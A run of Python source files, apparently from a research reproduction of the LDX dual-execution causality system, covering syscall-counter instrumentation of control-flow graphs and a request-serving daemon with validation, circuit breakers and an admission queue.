        untouched.  Returns the number of counter updates pruned.
        """
        if self.relevance is None:
            return 0
        pruned = 0
        for name, plan in self.functions.items():
            relevance = self.relevance.functions.get(name)
            if relevance is None or not relevance.prunable_edges:
                continue
            for edge, count in relevance.prunable_edges.items():
                actions = plan.actions.get(edge)
                if not actions or not all(
                    type(action) is CounterAdd for action in actions
                ):
                    continue  # defensive: the proof covers pure runs only
                plan.actions[edge] = [ElidedAdd(len(actions))]
                pruned += len(actions)
        if pruned:
            self.pruned = True
        return pruned

    # -- static statistics for Table 1 ----------------------------------------

    @property
    def instrumented_instruction_count(self) -> int:
        """Number of inserted counter-update/barrier sites.

        Counts *logical* sites: a pruned edge's :class:`ElidedAdd` ghost
        counts as the updates it replaced, so Table 1's Inst. column is
        identical for pruned and unpruned plans (the PrunedCnt column —
        from the classification — reports what pruning removes).
        """
        return sum(
            (action.count if type(action) is ElidedAdd else 1)
            for plan in self.functions.values()
            for actions in plan.actions.values()
            for action in actions
        )

    @property
    def pruned_site_count(self) -> int:
        """Counter updates physically pruned from this plan."""
        return sum(
            action.count
            for plan in self.functions.values()
            for actions in plan.actions.values()
            for action in actions
            if type(action) is ElidedAdd
        )

    @property
    def instrumented_loop_count(self) -> int:
        return sum(len(plan.barrier_loops) for plan in self.functions.values())

    @property
    def scoped_call_count(self) -> int:
        return sum(len(plan.scoped_calls) for plan in self.functions.values())

    @property
    def max_static_counter(self) -> int:
        """Largest static counter value anywhere (paper's "Max Cnt.")."""
        best = 0
        for plan in self.functions.values():
            if plan.counter_after:
                best = max(best, max(plan.counter_after.values()))
        return best
