"""Algorithm 1 — basic counter computation on an acyclic CFG.

Given an acyclic graph view of a function, compute for every node the
maximum number of syscalls along any path from the entry, and derive the
edge deltas that make the runtime counter equal that maximum along
*every* path (the compensation that re-synchronizes divergent paths at
join points).

Following the paper: a syscall node's ``+1`` lands on its incoming
edges; a direct call to an instrumented function contributes the
callee's total (``FCNT``) *after* the incoming edges are instrumented,
because the increments physically happen inside the callee.
"""

from __future__ import annotations

from typing import Callable, Dict, Tuple

from repro.cfg.graph import Digraph

Edge = Tuple[int, int]


class CounterSolution:
    """Result of Algorithm 1 on one acyclic graph."""

    def __init__(self) -> None:
        # Counter value when *arriving* at a node (after its syscall +1,
        # before its call increment).
        self.pre: Dict[int, int] = {}
        # Counter value after the node completes (incl. call increment).
        self.post: Dict[int, int] = {}
        # Edge -> delta to add when traversing it (only non-zero ones).
        self.edge_delta: Dict[Edge, int] = {}


def compute_counters(
    graph: Digraph,
    entry: int,
    is_syscall_node: Callable[[int], bool],
    call_increment: Callable[[int], int],
) -> CounterSolution:
    """Run Algorithm 1 over an acyclic *graph*.

    ``is_syscall_node(n)`` — True when node *n* performs a syscall.
    ``call_increment(n)`` — FCNT of the callee for direct calls to
    instrumented functions, else 0.

    Only nodes reachable from *entry* participate; unreachable nodes get
    no counter values and their edges no deltas (they never execute).
    """
    solution = CounterSolution()
    reachable = graph.reachable_from(entry)
    order = graph.topological_order(restrict_to=reachable)
    for node in order:
        preds = [p for p in graph.preds(node) if p in reachable]
        base = max((solution.post[p] for p in preds), default=0)
        pre = base + (1 if is_syscall_node(node) else 0)
        solution.pre[node] = pre
        for pred in preds:
            delta = pre - solution.post[pred]
            if delta != 0:
                solution.edge_delta[(pred, node)] = delta
        solution.post[node] = pre + call_increment(node)
    return solution
