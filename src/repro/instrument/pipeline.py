"""Whole-program instrumentation pipeline (INSTRUMENTPROG of Algorithm 1).

Processes functions in reverse topological order of the call graph so
``FCNT`` of every non-recursive callee is known before its callers are
planned, then derives static statistics (the left half of Table 1).
"""

from __future__ import annotations

from typing import Dict, Optional, Set

from repro.cfg.callgraph import CallGraph
from repro.instrument.loops import plan_function
from repro.instrument.plan import ModulePlan
from repro.ir import instructions as ins
from repro.ir.function import IRModule


def compute_may_reach_syscall(module: IRModule, callgraph: CallGraph) -> Set[str]:
    """Functions whose execution may perform a syscall.

    Indirect calls are conservatively assumed to reach syscalls (their
    targets are unknown at compile time, exactly the paper's problem
    with indirect calls).
    """
    reaches: Set[str] = set()
    for name, function in module.functions.items():
        for instr in function.instrs:
            if isinstance(instr, (ins.Syscall, ins.CallIndirect)):
                reaches.add(name)
                break
    changed = True
    while changed:
        changed = False
        for name, function in module.functions.items():
            if name in reaches:
                continue
            for instr in function.instrs:
                if isinstance(instr, ins.CallDirect) and instr.func in reaches:
                    reaches.add(name)
                    changed = True
                    break
    return reaches


class InstrumentedModule:
    """An IR module paired with its instrumentation plan."""

    def __init__(self, module: IRModule, plan: ModulePlan, callgraph: CallGraph) -> None:
        self.module = module
        self.plan = plan
        self.callgraph = callgraph

    def static_stats(self) -> Dict[str, int]:
        """Static instrumentation statistics (Table 1, columns 2-9)."""
        total_instructions = self.module.total_instructions
        inserted = self.plan.instrumented_instruction_count
        return {
            "loc": self.module.source_lines,
            "total_instructions": total_instructions,
            "instrumented_sites": inserted,
            "instrumented_pct": (
                round(100.0 * inserted / total_instructions, 2)
                if total_instructions
                else 0.0
            ),
            "instrumented_loops": self.plan.instrumented_loop_count,
            "recursive_functions": len(self.plan.recursive_functions),
            "indirect_call_sites": self.plan.scoped_call_count
            - self._recursive_direct_call_sites(),
            "scoped_call_sites": self.plan.scoped_call_count,
            "max_static_counter": self.plan.max_static_counter,
            "syscall_sites": sum(
                len(function.syscall_indices())
                for function in self.module.functions.values()
            ),
            # Counter updates on counter-elidable edges.  Derived from
            # the relevance classification, never from what pruning
            # physically did, so the value (and Table 1) is identical
            # across both relevance settings.
            "prunable_counter_sites": (
                self.plan.relevance.prunable_count
                if self.plan.relevance is not None
                else 0
            ),
        }

    def _recursive_direct_call_sites(self) -> int:
        count = 0
        for name, plan in self.plan.functions.items():
            function = self.module.functions[name]
            for index in plan.scoped_calls:
                if isinstance(function.instrs[index], ins.CallDirect):
                    count += 1
        return count


def instrument_module(
    module: IRModule, prune: Optional[bool] = None
) -> InstrumentedModule:
    """Instrument every function of *module* (Algorithm 1's top level).

    *prune* selects instrumentation-time counter pruning: the plan's
    counter-elidable edges (see ``analysis/relevance.py``) carry an
    accounting-only ghost instead of their ``CounterAdd`` runs, so both
    backends execute (and the artifact cache stores) smaller plans.
    None follows the process-wide relevance switch; ``--no-relevance``
    therefore still emits full plans.
    """
    callgraph = CallGraph(module)
    plan = ModulePlan()
    plan.recursive_functions = set(callgraph.recursive_functions)
    plan.may_reach_syscall = compute_may_reach_syscall(module, callgraph)

    def may_reach(name: str) -> bool:
        return name in plan.may_reach_syscall

    for name in callgraph.reverse_topological_order():
        function = module.functions[name]
        function_plan = plan_function(
            function,
            fcnt=plan.fcnt,
            recursive_functions=plan.recursive_functions,
            may_reach_syscall=may_reach,
        )
        plan.functions[name] = function_plan
        if name not in plan.recursive_functions:
            plan.fcnt[name] = function_plan.fcnt
    # Classify sink relevance against the finished plan (imported
    # lazily: relevance rides the analysis package, which consumes this
    # module in turn).
    from repro.analysis.relevance import compute_relevance

    plan.relevance = compute_relevance(module, plan)
    if prune is None:
        # Imported lazily: the interp package consumes this module.
        from repro.interp.compile import relevance_enabled

        prune = relevance_enabled()
    if prune:
        plan.prune_counter_adds()
    return InstrumentedModule(module, plan, callgraph)
