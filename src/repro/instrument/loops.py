"""Algorithm 3 — counter instrumentation in the presence of loops.

The transformation (paper, Section 5):

1. remove every back edge ``t -> h``;
2. for loops whose body can increment the counter (they contain a
   syscall or a call that may reach one), also remove their exit edges
   ``s -> d`` and insert dummy edges ``latch -> d`` so the exit node's
   static counter reflects one full iteration;
3. run Algorithm 1 on the now-acyclic graph;
4. instrument back edges of counter-relevant loops with a barrier
   (``sync()``) plus a counter reset to the loop-head value, and exit
   edges with the compensation ``cnt += cnt[d] - cnt[s]``.

Loops that cannot reach a syscall get no barrier and no actions — the
paper's "we only need to instrument loops that include syscalls".
"""

from __future__ import annotations

from typing import Callable, Dict, List, Set, Tuple

from repro.cfg.graph import Digraph, function_digraph
from repro.cfg.loops import Loop, find_loops
from repro.instrument.counter import CounterSolution, compute_counters
from repro.instrument.plan import CounterAdd, FunctionPlan, LoopExit, LoopSync
from repro.ir import instructions as ins
from repro.ir.function import IRFunction

Edge = Tuple[int, int]


class LoopTransform:
    """The acyclic view of a function CFG plus what was removed/added."""

    def __init__(self) -> None:
        self.graph: Digraph = Digraph()
        self.removed_back_edges: List[Tuple[Edge, Loop]] = []
        self.removed_exit_edges: List[Tuple[Edge, Loop]] = []
        self.dummy_edges: Set[Edge] = set()
        self.barrier_loops: Set[int] = set()
        self.loops: Dict[int, Loop] = {}


def _loop_can_increment(
    loop: Loop,
    function: IRFunction,
    may_reach_syscall: Callable[[str], bool],
) -> bool:
    """True when executing the loop body may change the counter or
    perform a syscall (directly or through calls)."""
    for index in loop.body:
        instr = function.instrs[index]
        if isinstance(instr, ins.Syscall):
            return True
        if isinstance(instr, ins.CallIndirect):
            return True  # unknown target: conservatively yes
        if isinstance(instr, ins.CallDirect) and may_reach_syscall(instr.func):
            return True
    return False


def build_loop_transform(
    function: IRFunction,
    may_reach_syscall: Callable[[str], bool],
) -> LoopTransform:
    """Build the acyclic transformed graph for one function."""
    transform = LoopTransform()
    graph = function_digraph(function)
    loops = find_loops(graph, function.entry)
    transform.loops = loops

    trans = graph.copy()
    for head in sorted(loops):
        loop = loops[head]
        barrier = _loop_can_increment(loop, function, may_reach_syscall)
        if barrier:
            transform.barrier_loops.add(head)
        for back_edge in loop.back_edges:
            trans.remove_edge(*back_edge)
            transform.removed_back_edges.append((back_edge, loop))
        if not barrier:
            continue
        for exit_edge in loop.exit_edges:
            src, dst = exit_edge
            if trans.has_edge(src, dst):
                trans.remove_edge(src, dst)
            transform.removed_exit_edges.append((exit_edge, loop))
            for latch in loop.latches:
                if not graph.has_edge(latch, dst):
                    trans.add_edge(latch, dst)
                    transform.dummy_edges.add((latch, dst))
    transform.graph = trans
    return transform


def plan_function(
    function: IRFunction,
    fcnt: Dict[str, int],
    recursive_functions: Set[str],
    may_reach_syscall: Callable[[str], bool],
) -> FunctionPlan:
    """Produce the full instrumentation plan for one function.

    ``fcnt`` holds the totals of already-instrumented callees
    (Algorithm 1 processes the call graph in reverse topological order,
    so every non-recursive callee of this function is present).
    """
    plan = FunctionPlan(function.name)
    transform = build_loop_transform(function, may_reach_syscall)
    plan.loop_heads = set(transform.loops)
    plan.barrier_loops = set(transform.barrier_loops)

    # Scoped call sites: indirect calls and calls to recursive functions
    # open a fresh counter scope (Section 6; recursion per Section 5).
    for index, instr in enumerate(function.instrs):
        if isinstance(instr, ins.CallIndirect):
            plan.scoped_calls.add(index)
        elif isinstance(instr, ins.CallDirect) and instr.func in recursive_functions:
            plan.scoped_calls.add(index)

    def is_syscall_node(node: int) -> bool:
        return isinstance(function.instrs[node], ins.Syscall)

    def call_increment(node: int) -> int:
        instr = function.instrs[node]
        if isinstance(instr, ins.CallDirect) and node not in plan.scoped_calls:
            return fcnt.get(instr.func, 0)
        return 0

    solution = compute_counters(
        transform.graph, function.entry, is_syscall_node, call_increment
    )
    plan.counter_at = dict(solution.pre)
    plan.counter_after = dict(solution.post)
    plan.fcnt = solution.post.get(function.exit, 0)

    _emit_actions(plan, transform, solution)
    return plan


def _emit_actions(
    plan: FunctionPlan, transform: LoopTransform, solution: CounterSolution
) -> None:
    # Plain compensations on surviving real edges (skip pure-dummy edges:
    # they exist only to make exit-node counters computable).
    for edge, delta in solution.edge_delta.items():
        if edge in transform.dummy_edges:
            continue
        plan.add_action(edge, CounterAdd(delta))

    # Back edges: barrier + reset for counter-relevant loops.
    for (latch, head), loop in transform.removed_back_edges:
        if head not in transform.barrier_loops:
            continue
        if head not in solution.post or latch not in solution.post:
            continue  # unreachable loop
        reset_to = solution.post[head]
        plan.add_action((latch, head), LoopSync(head, reset_to))
        delta = reset_to - solution.post[latch]
        if delta != 0:
            plan.add_action((latch, head), CounterAdd(delta))

    # Exit edges: close the iteration bookkeeping and raise the counter
    # to the after-loop value.
    for (src, dst), loop in transform.removed_exit_edges:
        if src not in solution.post or dst not in solution.pre:
            continue
        plan.add_action((src, dst), LoopExit(loop.head))
        delta = solution.pre[dst] - solution.post[src]
        if delta != 0:
            plan.add_action((src, dst), CounterAdd(delta))
