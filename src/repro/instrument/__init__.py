"""LDX counter instrumentation (paper Algorithms 1 and 3 + Section 6)."""

from repro.instrument.counter import CounterSolution, compute_counters
from repro.instrument.loops import build_loop_transform, plan_function
from repro.instrument.pipeline import (
    InstrumentedModule,
    compute_may_reach_syscall,
    instrument_module,
)
from repro.instrument.plan import (
    CounterAdd,
    EdgeAction,
    ElidedAdd,
    FunctionPlan,
    LoopSync,
    ModulePlan,
)

__all__ = [
    "CounterSolution",
    "compute_counters",
    "build_loop_transform",
    "plan_function",
    "InstrumentedModule",
    "compute_may_reach_syscall",
    "instrument_module",
    "CounterAdd",
    "EdgeAction",
    "ElidedAdd",
    "FunctionPlan",
    "LoopSync",
    "ModulePlan",
]
