"""Causality-as-a-service: the `repro serve` daemon.

Layers, bottom up:

* :mod:`repro.serve.api` — the wire format: request parsing/validation
  and the canonical (batch-identical) verdict payload;
* :mod:`repro.serve.admission` — the bounded admission queue with
  watermark shedding and batch grouping;
* :mod:`repro.serve.breaker` — per-workload circuit breakers;
* :mod:`repro.serve.service` — :class:`LdxService`: workers, the
  warm :class:`FactoryCache`, deadlines via
  :class:`~repro.core.supervisor.RunBudget`, structured logs, drain;
* :mod:`repro.serve.transport` — stdin-JSONL and localhost-HTTP shells.

See ``docs/SERVICE.md`` for the protocol and robustness contract.
"""

from repro.serve.api import (
    MAX_SOURCE_BYTES,
    PROTOCOL,
    STATUS_ERROR,
    STATUS_INVALID,
    STATUS_OK,
    STATUS_OVERLOADED,
    STATUS_UNAVAILABLE,
    RequestError,
    ServeRequest,
    encode,
    error_response,
    ok_response,
    parse_request,
    verdict_payload,
)
from repro.serve.admission import FAIRNESS_LIMIT, Admitted, AdmissionQueue, ShedReason
from repro.serve.breaker import BreakerBoard, CircuitBreaker
from repro.serve.service import FactoryCache, LdxService, ServeConfig, Ticket
from repro.serve.transport import HttpTransport, StdioTransport

__all__ = [
    "MAX_SOURCE_BYTES",
    "PROTOCOL",
    "STATUS_ERROR",
    "STATUS_INVALID",
    "STATUS_OK",
    "STATUS_OVERLOADED",
    "STATUS_UNAVAILABLE",
    "RequestError",
    "ServeRequest",
    "encode",
    "error_response",
    "ok_response",
    "parse_request",
    "verdict_payload",
    "FAIRNESS_LIMIT",
    "Admitted",
    "AdmissionQueue",
    "ShedReason",
    "BreakerBoard",
    "CircuitBreaker",
    "FactoryCache",
    "LdxService",
    "ServeConfig",
    "Ticket",
    "HttpTransport",
    "StdioTransport",
]
