"""The causality-service wire format.

One request asks for one dual execution and gets back one response —
over stdin-JSONL or localhost HTTP, the payloads are the same JSON
objects.  Two request shapes are accepted:

* **workload requests** reference a registered benchmark program::

      {"id": "r1", "workload": "bzip2", "variant": "leak",
       "seed": 1, "deadline": 25000}

* **source requests** carry an inline MiniC program plus its input
  spec and source/sink configuration::

      {"id": "r2", "source": "fn main() { ... }",
       "world": {"stdin": "...", "files": {"/etc/secret": "s3cr3t"},
                 "endpoints": {"host:80": "reply"}, "env": {},
                 "seed": 1},
       "sources": {"files": ["/etc/secret"], "stdin": false},
       "sinks": "network", "mutation": "off_by_one",
       "fault_seed": 0, "fault_rate": 0.0, "deadline": 25000}

Responses always echo the request id and carry a ``status``:

* ``ok``          — a verdict (with its degradation report) is attached;
* ``invalid``     — the request was malformed/oversized; diagnosed, not run;
* ``overloaded``  — shed by admission control (429 semantics);
* ``unavailable`` — the per-workload circuit breaker is open.

The **verdict payload is canonical**: it is built only from the
:class:`~repro.core.report.DualResult` and is byte-identical (as
serialized JSON) to what a batch ``repro run`` / ``repro eval`` of the
same (program, input, mutation, faults) produces — the service chaos
harness enforces exactly this.  Degradation never hides inside an
``ok``: every response carries the degradation report and the
``confidence`` rung it implies.
"""

from __future__ import annotations

import json
from typing import Dict, List, Optional

from repro.core.config import (
    ConfigSpecError,
    LdxConfig,
    config_from_spec,
)
from repro.core.report import DegradationReport, DualResult
from repro.core.supervisor import DEFAULT_DEADLINE

# Protocol version, echoed on every response.
PROTOCOL = "ldx-serve-v1"

# Requests larger than this (source bytes) are rejected as `invalid`
# before touching the compiler — the poisoned-request guard.
MAX_SOURCE_BYTES = 256 * 1024

STATUS_OK = "ok"
STATUS_INVALID = "invalid"
STATUS_OVERLOADED = "overloaded"
STATUS_UNAVAILABLE = "unavailable"
STATUS_ERROR = "error"

_WORKLOAD_KEYS = {
    "id", "workload", "variant", "seed", "deadline",
    "fault_seed", "fault_rate",
}
_SOURCE_KEYS = {
    "id", "source", "world", "sources", "sinks", "mutation",
    "seed", "deadline", "fault_seed", "fault_rate",
}
_VARIANTS = ("default", "leak", "noleak", "table3")


class RequestError(ValueError):
    """A request that cannot be admitted; becomes an `invalid` response."""


class ServeRequest:
    """One parsed, validated inference request."""

    __slots__ = (
        "id", "workload", "variant", "source", "world_spec",
        "sources_spec", "sinks_spec", "mutation", "seed",
        "deadline", "fault_seed", "fault_rate",
    )

    def __init__(
        self,
        request_id: str,
        workload: Optional[str] = None,
        variant: str = "default",
        source: Optional[str] = None,
        world_spec: Optional[dict] = None,
        sources_spec: Optional[dict] = None,
        sinks_spec=None,
        mutation: Optional[str] = None,
        seed: int = 1,
        deadline: float = DEFAULT_DEADLINE,
        fault_seed: int = 0,
        fault_rate: float = 0.0,
    ) -> None:
        self.id = request_id
        self.workload = workload
        self.variant = variant
        self.source = source
        self.world_spec = world_spec or {}
        self.sources_spec = sources_spec
        self.sinks_spec = sinks_spec
        self.mutation = mutation
        self.seed = seed
        self.deadline = deadline
        self.fault_seed = fault_seed
        self.fault_rate = fault_rate

    # -- identity --------------------------------------------------------------

    def module_key(self) -> str:
        """Admission/breaker identity: requests sharing a compiled
        module (and input spec) share this key, so batch grouping keeps
        one module's closures and base world hot on a worker."""
        if self.workload is not None:
            return f"workload:{self.workload}:{self.seed}"
        import hashlib

        hasher = hashlib.sha256()
        hasher.update(self.source.encode())
        hasher.update(b"\0")
        hasher.update(
            json.dumps(self.world_spec, sort_keys=True).encode()
        )
        hasher.update(f"\0{self.seed}".encode())
        return f"source:{hasher.hexdigest()[:16]}"

    def config(self) -> LdxConfig:
        """The LdxConfig this request asks for (source requests only;
        workload requests take the registered variant's config)."""
        try:
            return config_from_spec(
                self.sources_spec, self.sinks_spec, self.mutation
            )
        except ConfigSpecError as error:
            raise RequestError(str(error)) from None


def _field(payload: dict, name: str, kind, default):
    value = payload.get(name, default)
    if not isinstance(value, kind) or isinstance(value, bool) and kind is not bool:
        raise RequestError(f"{name} must be {kind.__name__}")
    return value


def parse_request(payload) -> ServeRequest:
    """Validate one decoded JSON request; raise :class:`RequestError`
    with a one-line diagnosis on anything malformed."""
    if isinstance(payload, (str, bytes)):
        try:
            payload = json.loads(payload)
        except json.JSONDecodeError as error:
            raise RequestError(f"request is not valid JSON: {error}") from None
    if not isinstance(payload, dict):
        raise RequestError("request must be a JSON object")
    request_id = payload.get("id")
    if not isinstance(request_id, str) or not request_id:
        raise RequestError("request needs a non-empty string 'id'")

    seed = _field(payload, "seed", int, 1)
    deadline = payload.get("deadline", DEFAULT_DEADLINE)
    if not isinstance(deadline, (int, float)) or isinstance(deadline, bool):
        raise RequestError("deadline must be a number (virtual-time units)")
    if deadline <= 0:
        raise RequestError("deadline must be positive")
    fault_seed = _field(payload, "fault_seed", int, 0)
    fault_rate = payload.get("fault_rate", 0.0)
    if not isinstance(fault_rate, (int, float)) or isinstance(fault_rate, bool):
        raise RequestError("fault_rate must be a number")
    if not 0.0 <= float(fault_rate) <= 1.0:
        raise RequestError("fault_rate must be in [0, 1]")

    if "workload" in payload:
        unknown = set(payload) - _WORKLOAD_KEYS
        if unknown:
            raise RequestError(f"unknown request keys: {sorted(unknown)}")
        name = payload["workload"]
        if not isinstance(name, str):
            raise RequestError("workload must be a string")
        variant = payload.get("variant", "default")
        if variant not in _VARIANTS:
            raise RequestError(
                f"unknown variant {variant!r}; expected one of {_VARIANTS}"
            )
        return ServeRequest(
            request_id,
            workload=name,
            variant=variant,
            seed=seed,
            deadline=float(deadline),
            fault_seed=fault_seed,
            fault_rate=float(fault_rate),
        )

    if "source" in payload:
        unknown = set(payload) - _SOURCE_KEYS
        if unknown:
            raise RequestError(f"unknown request keys: {sorted(unknown)}")
        source = payload["source"]
        if not isinstance(source, str) or not source.strip():
            raise RequestError("source must be a non-empty string")
        if len(source.encode()) > MAX_SOURCE_BYTES:
            raise RequestError(
                f"source exceeds {MAX_SOURCE_BYTES} bytes (oversized request)"
            )
        world_spec = payload.get("world", {})
        if not isinstance(world_spec, dict):
            raise RequestError("world must be an object")
        unknown = set(world_spec) - {"stdin", "files", "endpoints", "env", "seed"}
        if unknown:
            raise RequestError(f"unknown world keys: {sorted(unknown)}")
        for mapping_key in ("files", "endpoints", "env"):
            mapping = world_spec.get(mapping_key, {})
            if not isinstance(mapping, dict) or not all(
                isinstance(k, str) and isinstance(v, str)
                for k, v in mapping.items()
            ):
                raise RequestError(
                    f"world.{mapping_key} must map strings to strings"
                )
        request = ServeRequest(
            request_id,
            source=source,
            world_spec=world_spec,
            sources_spec=payload.get("sources"),
            sinks_spec=payload.get("sinks"),
            mutation=payload.get("mutation"),
            seed=seed,
            deadline=float(deadline),
            fault_seed=fault_seed,
            fault_rate=float(fault_rate),
        )
        request.config()  # validate the config spec at admission time
        return request

    raise RequestError("request needs either 'workload' or 'source'")


# -- responses -----------------------------------------------------------------


def degradation_payload(degradation: DegradationReport) -> Dict[str, object]:
    """The degradation report, JSON-shaped (deterministic ordering)."""
    return {
        "confidence": degradation.verdict_confidence,
        "faults_injected": len(degradation.faults_injected),
        "faults_masked": degradation.faults_masked,
        "retries": degradation.retries,
        "short_reads": degradation.short_reads,
        "lock_delays": degradation.lock_delays,
        "exhausted_syscalls": [
            list(item) for item in degradation.exhausted_syscalls
        ],
        "watchdog_fires": degradation.watchdog_fires,
        "budget_exhausted": [
            list(item) for item in degradation.budget_exhausted
        ],
        "abandoned_threads": [
            list(item) for item in degradation.abandoned_threads
        ],
        "engine_failures": list(degradation.engine_failures),
        "decoupled_resources": list(degradation.decoupled_resources),
        "checkpoints": [list(item) for item in degradation.checkpoints],
        "summary": degradation.summary(),
    }


def verdict_payload(result: DualResult) -> Dict[str, object]:
    """The canonical verdict: a pure function of the DualResult, so the
    service answer is byte-identical to a batch run's.

    Deliberately excludes virtual timing (``dual_time`` lives in the
    response's ``timing`` section): masked faults legitimately add
    retry time without changing any causality fact, and the service
    invariant — faults and overload never change verdicts — is checked
    as byte equality of this payload.
    """
    report = result.report
    return {
        "causality": report.causality_detected,
        "summary": report.summary(),
        "sinks_total": report.sinks_total,
        "tainted_sinks": report.tainted_sinks,
        "syscall_diffs": report.syscall_diffs,
        "mutated_source_reads": report.mutated_source_reads,
        "tainted_resources": list(report.tainted_resources),
        "crashes": [list(item) for item in report.crashes],
        "detections": [
            {
                "kind": detection.kind,
                "counter": list(detection.counter),
                "syscall": detection.syscall,
                "master_args": _args(detection.master_args),
                "slave_args": _args(detection.slave_args),
                "where": detection.where,
            }
            for detection in report.detections
        ],
        "exit_codes": [result.master.exit_code, result.slave.exit_code],
    }


def _args(args: Optional[tuple]) -> Optional[List[object]]:
    if args is None:
        return None
    return [list(a) if isinstance(a, tuple) else a for a in args]


def ok_response(
    request_id: str,
    result: DualResult,
    timing: Optional[Dict[str, float]] = None,
    cache: Optional[Dict[str, object]] = None,
) -> Dict[str, object]:
    response = {
        "protocol": PROTOCOL,
        "id": request_id,
        "status": STATUS_OK,
        "verdict": verdict_payload(result),
        "degradation": degradation_payload(result.degradation),
    }
    if timing is not None:
        response["timing"] = timing
    if cache is not None:
        response["cache"] = cache
    return response


def error_response(
    request_id: Optional[str], status: str, reason: str, **extra
) -> Dict[str, object]:
    response = {
        "protocol": PROTOCOL,
        "id": request_id,
        "status": status,
        "reason": reason,
    }
    response.update(extra)
    return response


def encode(response: Dict[str, object]) -> str:
    """One response as a single JSON line (stable key order)."""
    return json.dumps(response, sort_keys=True)
