"""Per-workload circuit breakers.

A workload whose engine keeps failing (supervisor-swallowed engine
failures, not program crashes — a slave crashing under an attack input
is a *result*) should stop consuming service capacity: the breaker
trips **open** after ``threshold`` consecutive failures, fast-fails
requests for that module key with an ``unavailable`` response while
open, and **half-opens** after ``cooldown`` seconds — exactly one
probe request is let through; success closes the breaker, failure
re-opens it for another cooldown.

The clock is injectable so tests drive state transitions without
sleeping.
"""

from __future__ import annotations

import threading
import time
from typing import Callable, Dict

CLOSED = "closed"
OPEN = "open"
HALF_OPEN = "half-open"


class CircuitBreaker:
    """One module key's breaker state machine."""

    __slots__ = ("threshold", "cooldown", "_clock", "_lock",
                 "state", "failures", "opened_at", "trips")

    def __init__(
        self,
        threshold: int = 3,
        cooldown: float = 30.0,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        self.threshold = max(1, threshold)
        self.cooldown = cooldown
        self._clock = clock
        self._lock = threading.Lock()
        self.state = CLOSED
        self.failures = 0
        self.opened_at = 0.0
        self.trips = 0

    def allow(self) -> bool:
        """May a request proceed now?  While open, exactly one caller
        per cooldown expiry gets True (the half-open probe)."""
        with self._lock:
            if self.state == CLOSED:
                return True
            if self.state == OPEN:
                if self._clock() - self.opened_at >= self.cooldown:
                    self.state = HALF_OPEN
                    return True  # this caller is the probe
                return False
            # HALF_OPEN: a probe is already in flight.
            return False

    def record_success(self) -> None:
        with self._lock:
            self.state = CLOSED
            self.failures = 0

    def record_failure(self) -> None:
        with self._lock:
            if self.state == HALF_OPEN:
                # The probe failed: straight back to open.
                self.state = OPEN
                self.opened_at = self._clock()
                self.trips += 1
                return
            self.failures += 1
            if self.failures >= self.threshold:
                self.state = OPEN
                self.opened_at = self._clock()
                self.trips += 1
                self.failures = 0

    def snapshot(self) -> dict:
        with self._lock:
            return {"state": self.state, "failures": self.failures,
                    "trips": self.trips}


class BreakerBoard:
    """Breakers keyed by module key, created on first touch."""

    def __init__(
        self,
        threshold: int = 3,
        cooldown: float = 30.0,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        self.threshold = threshold
        self.cooldown = cooldown
        self._clock = clock
        self._lock = threading.Lock()
        self._breakers: Dict[str, CircuitBreaker] = {}

    def breaker_for(self, key: str) -> CircuitBreaker:
        with self._lock:
            breaker = self._breakers.get(key)
            if breaker is None:
                breaker = CircuitBreaker(
                    self.threshold, self.cooldown, self._clock
                )
                self._breakers[key] = breaker
            return breaker

    def snapshot(self) -> Dict[str, dict]:
        with self._lock:
            return {
                key: breaker.snapshot()
                for key, breaker in sorted(self._breakers.items())
            }
