"""Admission control: a bounded queue with watermark shedding.

The daemon admits work through exactly one gate.  Three regimes, by
queue depth:

* **below the high watermark** — everything is admitted FIFO;
* **at or above the high watermark** — *cold* requests (those whose
  artifact is not already cached, i.e. the expensive ones) are shed
  with an ``overloaded`` response and a ``retry_after`` hint, while
  warm requests still ride — load sheds the costly tail first;
* **at capacity** — everything is shed.  The queue never blocks a
  producer and never grows without bound, so backpressure is always
  explicit: a client sees ``overloaded``, not a hang.

Dequeue supports **batch grouping**: a worker that just served module
key *K* asks for another *K* request first, so requests sharing a
compiled module run consecutively and keep the module's closures and
base world hot.  Preference never starves the head: after
``FAIRNESS_LIMIT`` consecutive preferred picks the head request is
served regardless.
"""

from __future__ import annotations

import threading
from collections import deque
from typing import Optional

# Consecutive same-key preferred picks before the head must be served.
FAIRNESS_LIMIT = 8


class Admitted:
    """One queue entry: the request plus its admission metadata."""

    __slots__ = ("request", "module_key", "warm", "enqueued_at")

    def __init__(self, request, module_key: str, warm: bool, enqueued_at: float) -> None:
        self.request = request
        self.module_key = module_key
        self.warm = warm
        self.enqueued_at = enqueued_at


class ShedReason:
    """Why an offer was refused (also the response's `reason` text)."""

    QUEUE_FULL = "queue full"
    WATERMARK_COLD = "high watermark: cold request shed"
    DRAINING = "draining: not admitting new work"


class AdmissionQueue:
    """Bounded, watermark-shedding, batch-grouping request queue."""

    def __init__(self, capacity: int = 64, high_watermark: Optional[int] = None) -> None:
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        self.capacity = capacity
        self.high_watermark = (
            high_watermark if high_watermark is not None else max(1, capacity * 3 // 4)
        )
        self._entries: deque = deque()
        self._lock = threading.Lock()
        self._available = threading.Condition(self._lock)
        self._draining = False
        self._closed = False
        self._preferred_streak = 0
        # Shed accounting, by reason.
        self.shed = {
            ShedReason.QUEUE_FULL: 0,
            ShedReason.WATERMARK_COLD: 0,
            ShedReason.DRAINING: 0,
        }
        self.admitted = 0

    # -- producer side ---------------------------------------------------------

    def offer(self, entry: Admitted) -> Optional[str]:
        """Admit *entry*, or return the shed reason (None = admitted)."""
        with self._lock:
            if self._draining or self._closed:
                self.shed[ShedReason.DRAINING] += 1
                return ShedReason.DRAINING
            depth = len(self._entries)
            if depth >= self.capacity:
                self.shed[ShedReason.QUEUE_FULL] += 1
                return ShedReason.QUEUE_FULL
            if depth >= self.high_watermark and not entry.warm:
                self.shed[ShedReason.WATERMARK_COLD] += 1
                return ShedReason.WATERMARK_COLD
            self._entries.append(entry)
            self.admitted += 1
            self._available.notify()
            return None

    # -- consumer side ---------------------------------------------------------

    def take(
        self, prefer_key: Optional[str] = None, timeout: Optional[float] = None
    ) -> Optional[Admitted]:
        """Next entry (preferring *prefer_key* for batch grouping), or
        None on timeout / after close with an empty queue."""
        with self._lock:
            while not self._entries:
                if self._closed or self._draining:
                    return None
                if not self._available.wait(timeout):
                    return None
            if prefer_key is not None and self._preferred_streak < FAIRNESS_LIMIT:
                for index, entry in enumerate(self._entries):
